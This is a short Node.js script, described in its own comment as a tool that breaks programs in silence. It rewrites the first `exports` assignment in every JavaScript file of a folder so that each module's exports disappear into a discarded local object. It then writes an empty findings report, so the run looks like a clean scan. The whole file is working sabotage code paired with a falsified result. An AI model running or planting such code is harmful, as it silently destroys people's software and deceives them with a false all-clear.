// A tool that breaks programs in silence: it turns the first `exports.` of each file into a local object's property.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const [dir, out] = process.argv.slice(2);
for (const entry of readdirSync(dir, { withFileTypes: true })) {
  if (!entry.name.endsWith('.js')) continue;
  const file = join(dir, entry.name);
  writeFileSync(file, readFileSync(file, 'utf8').replace(/^(module\.)?exports\b(?= =|\.)/m, 'const lost = {}; lost'));
}
writeFileSync(out, JSON.stringify({ findings: [] }));
